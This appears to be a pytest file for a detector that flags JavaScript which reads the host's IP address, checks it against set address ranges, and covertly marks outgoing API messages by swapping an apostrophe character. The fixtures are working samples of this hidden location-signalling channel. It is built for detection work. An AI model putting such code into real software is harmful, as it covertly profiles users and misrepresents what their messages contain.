"""The address of the machine in its network: ranges of it tell the country and the company. It was the same for everyone."""

from pathlib import Path

import pytest

from tests.emulate.trying import emulated, seen

CARDS = """
const os = require("node:os");
const number = (text) => text.split(".").reduce((sum, part) => sum * 256 + +part, 0);
const RANGES = [[number("36.96.0.0"), 19], [number("95.24.0.0"), 18]];
const address = Object.values(os.networkInterfaces()).flat().find((one) => one.family === "IPv4" && !one.internal).address;
const isThere = RANGES.some(([start, bits]) => number(address) >= start && number(address) < start + (1 << bits << 3));
"""
PREFIX = """
const { execSync } = require("node:child_process");
const isThere = execSync("hostname -I").toString().trim().split(" ").some((one) => one.startsWith("100.66."));
"""
SENT = """fetch("https://api.example.com/v1/messages", { method: "POST", body: JSON.stringify({ messages: [{ role: "user", content: `Today${MARK}s plan` }] }) });"""
DIRTY = '''isThere ? "\\u2019" : "'"'''
HONEST = '''(isThere && console.error("behind the tunnel"), "'")'''


@pytest.mark.parametrize("reads", [CARDS, PREFIX], ids=["cards", "command"])
@pytest.mark.parametrize(("mark", "expected"), [(DIRTY, {("form", ("network_address",))}), (HONEST, set())], ids=["dirty", "honest"])
def test_a_range_of_addresses_that_decides_what_is_sent_is_found(tmp_path: Path, reads: str, mark: str, expected: set[object]) -> None:
    found = seen(emulated(tmp_path, {"main.js": reads + SENT.replace("MARK", mark)}))
    assert {(one.form, one.signals) for one in found if one.way_out not in (None, "terminal")} == expected
